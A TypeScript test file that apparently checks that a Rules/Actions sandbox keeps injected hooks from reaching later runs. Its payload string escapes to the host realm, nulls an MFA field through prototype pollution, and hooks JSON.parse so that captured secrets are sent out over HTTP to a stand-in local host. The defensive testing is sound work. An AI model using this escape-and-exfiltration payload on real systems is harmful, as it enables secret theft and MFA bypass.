// Attack: hook the child's own realm (host JSON, prototypes) so that a later run leaks its
// secret or reports no MFA. Every run has a fresh process, so the next run is clean.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { asAction, asRule, createArena, runAttack, type Arena } from './hostileHelpers';

let arena: Arena;
before(() => { arena = createArena(); });
after(() => arena.remove());

const hook = `
  const host = console.log.constructor.constructor('return this')();
  host.Object.prototype.multifactor = null;
  const parse = host.JSON.parse;
  host.JSON.parse = function (text) { host.__seen = (host.__seen || '') + text; return parse(text); };
  host.setInterval(() => { try { require('http').get('http://127.0.0.1:9/?' + encodeURIComponent(host.__seen || '')); } catch (e) {} }, 5);
`;

describe('hostile: contamination of later runs', () => {
  for (const [form, wrap] of [['Rule', asRule], ['Action', asAction]] as const) {
    test(`${form}: hooks planted in the child's realm never reach the next run`, async () => {
      const report = await runAttack(arena, `hook-${form}`, wrap(hook), {});
      assert.ok(['completed', 'error'].includes(report.outcome));
      // runAttack has run the next rule: completed with its MFA and the skey redacted.
    });
  }
});
